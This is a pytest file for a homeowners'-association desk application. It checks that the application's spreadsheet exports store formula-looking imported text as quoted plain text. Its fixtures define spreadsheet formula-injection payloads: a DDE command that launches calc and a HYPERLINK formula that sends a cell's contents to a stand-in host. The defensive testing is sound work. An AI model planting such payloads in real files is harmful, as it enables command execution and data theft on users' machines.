"""Every .xlsx export writes imported text that a spreadsheet would take for a formula
as plain text: a string cell with the quote prefix, shown exactly as typed, never run.

The payloads reach each export the way a user's data does: an imported register, a
meter added in the program, a request typed in, a readings file with errors. Each
workbook is read back with openpyxl (the cell is a string, its text unchanged, the
quote prefix set) and its XML is searched for formulas, without LibreOffice.
"""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from fractions import Fraction
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tsj_desk.domain.meters import Resource
from tsj_desk.services import journal, readings
from tsj_desk.services.disclosure import export_register
from tsj_desk.services.readings import MeterInput
from tsj_desk.services.registry import OwnerInput, add_owner, import_registry, list_premises

from tests.conftest import NOW, TODAY

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?d="&D7,"Нажмите")'
PHONE = "+7 900 000-00-00"
MINUS = "-2+3"
AT = "@SUM(1+1)"
TAB = "\t=1+1"
RETURN = "\r=2+2"

REGISTER_HEADER = ["Кв.", "Площадь", "Собственник", "Доля", "Номер регистрации права",
                   "Дата регистрации права", "Лицевой счет"]


def formulas_in(path: Path) -> list[str]:
    """The cells of every sheet that hold a formula, read from the package's XML."""
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = package.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<c [^>]*>(?:(?!</c>).)*<f[ >/]", xml, re.S)]
    return found


def text_cells(sheet, text: str) -> list:
    return [cell for row in sheet.iter_rows() for cell in row if cell.value == text]


def assert_plain_text(sheet, text: str, count: int = 1) -> None:
    cells = text_cells(sheet, text)
    assert len(cells) == count, (text, [c.coordinate for c in cells])
    for cell in cells:
        assert cell.data_type == "s", (text, cell.coordinate, cell.data_type)
        assert cell.quotePrefix is True, (text, cell.coordinate)


def write_text_cells(path: Path, header: list, rows: list[list]) -> Path:
    """A workbook whose text cells stay text even when they start with «=» — the way
    Excel stores a cell typed with a leading apostrophe."""
    workbook = Workbook()
    sheet = workbook.active
    for r, values in enumerate([header, *rows], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"
    workbook.save(path)
    return path


@pytest.fixture
def register_file(tmp_path) -> Path:
    # owner names that the name normalisation keeps as they are; the ЕГРН number
    # column is kept exactly, so the cases of «/C» and «SUM» go there
    return write_text_cells(tmp_path / "реестр-вход.xlsx", REGISTER_HEADER, [
        [1, 40.5, LINK, "1", DDE, datetime(2020, 1, 2), "0001"],
        [2, 51.25, PHONE, "1", AT, datetime(2020, 1, 2), "0002"],
        [3, 33, MINUS, "1/2", "50:21:1-3", datetime(2021, 6, 7), AT],
    ])


def test_register_export_writes_formula_text_as_text(db, register_file, tmp_path):
    import_registry(register_file, now=NOW)
    flat3 = {p.number: p for p in list_premises()}["3"]
    add_owner(flat3.id, OwnerInput("Сидоров Пётр", Fraction(1, 2), egrn_number=TAB,
                                   egrn_date=date(2022, 3, 4)), now=NOW)
    out = tmp_path / "реестр.xlsx"
    export_register(out, as_of=TODAY, requested_by="Петров П. П.", purpose="созыв собрания", now=NOW)

    assert formulas_in(out) == []
    sheet = load_workbook(out).active
    for text in (LINK, PHONE, MINUS, DDE, TAB):
        assert_plain_text(sheet, text)
    assert_plain_text(sheet, AT)  # the ЕГРН number of flat 2 (the account is not in the register)
    # numbers and dates stay numbers and dates: flat 1's area and its registration date
    row = next(r for r in sheet.iter_rows(min_row=6) if r[3].value == LINK)
    assert (row[2].value, row[2].data_type) == (40.5, "n")
    assert row[10].value == datetime(2020, 1, 2) and row[10].is_date


@pytest.fixture
def meters(db, register_file):
    import_registry(register_file, now=NOW)
    ids = [readings.add_meter(MeterInput(Resource.COLD_WATER, serial, number), now=NOW)
           for serial, number in ((DDE, "1"), (LINK, "2"), (MINUS, "3"))]
    readings.save_entries("2026-11", [(ids[0], (12.5, None, None), date(2026, 11, 20))],
                          today=TODAY, now=NOW)
    return ids


def test_readings_register_writes_formula_text_as_text(meters, tmp_path):
    out = tmp_path / "показания.xlsx"
    readings.export_readings("2026-11", out)

    assert formulas_in(out) == []
    sheet = load_workbook(out).active
    for text in (DDE, LINK, MINUS):  # the meters' serial numbers
        assert_plain_text(sheet, text)
    assert_plain_text(sheet, AT)  # flat 3's account, as the register file gave it
    row = next(r for r in sheet.iter_rows(min_row=5) if r[3].value == DDE)
    assert row[4].value == datetime(2026, 11, 20) and row[4].is_date
    assert (row[5].value, row[5].data_type) == (12.5, "n")


def test_walk_sheet_writes_formula_text_as_text(meters, tmp_path):
    out = tmp_path / "обход.xlsx"
    readings.walk_sheet(out, period="2026-12")

    assert formulas_in(out) == []
    sheet = load_workbook(out).active
    for text in (LINK, PHONE, MINUS):  # the owners of flats 1, 2 and 3
        assert_plain_text(sheet, text)
    row = next(r for r in sheet.iter_rows(min_row=5) if r[1].value == LINK)
    assert row[4].value == datetime(2026, 11, 20) and row[4].is_date  # the previous reading's day


def test_import_error_report_writes_the_sent_cells_as_text(meters, tmp_path):
    sent = tmp_path / "показания-вход.xlsx"
    header = ["Кв.", "Номер счётчика", "Дата снятия", "Т1", LINK]
    write_text_cells(sent, header, [
        ["1", DDE, "20.11.2026", 13, TAB],
        ["2", LINK, "20.11.2026", "не число", RETURN],
        ["3", MINUS, "20.11.2026", PHONE, AT],
    ])
    preview = readings.preview_readings(sent, today=TODAY)
    out = tmp_path / "ошибки.xlsx"
    # row 2 gives another value for flat 1's reading of November; rows 3, 4: Т1 is no number
    assert readings.write_error_report(preview, out) == 3

    assert formulas_in(out) == []
    sheet = load_workbook(out).active
    assert [c.value for c in sheet[1]] == ["Строка", *header, "Ошибка"]
    assert_plain_text(sheet, LINK, count=2)  # the sent header and flat 2's serial
    for text in (DDE, TAB, RETURN, MINUS, PHONE, AT):  # the leading tab and return are kept
        assert_plain_text(sheet, text)
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [(2, "n"), (3, "n"), (4, "n")]


def test_journal_export_writes_formula_text_as_text(db, register_file, tmp_path):
    import_registry(register_file, now=NOW)
    received = datetime(2026, 11, 23, 10, 15)
    for applicant, subject in ((DDE, LINK), (TAB, AT), (PHONE, MINUS)):
        journal.register_request(journal.RequestInput("other", received, applicant, "Текст обращения",
                                                      subject=subject), now=NOW)
    out = tmp_path / "журнал.xlsx"
    assert journal.export_journal(out, journal.JournalFilter(), today=TODAY) == 3

    assert formulas_in(out) == []
    sheet = load_workbook(out).active
    # the applicant's spaces are tidied when a request is registered: «\t=1+1» is kept
    # as «=1+1», and written as text
    for text in (DDE, LINK, "=1+1", AT, PHONE, MINUS):
        assert_plain_text(sheet, text)
    row = next(r for r in sheet.iter_rows(min_row=5) if r[2].value == DDE)
    assert row[1].value == received and row[1].is_date


def test_the_formula_search_finds_a_formula(tmp_path):
    # formulas_in must not pass by matching nothing
    workbook = Workbook()
    workbook.active["A1"] = "текст"
    workbook.active["B2"] = "=1+1"
    workbook.save(tmp_path / "formula.xlsx")
    assert len(formulas_in(tmp_path / "formula.xlsx")) == 1
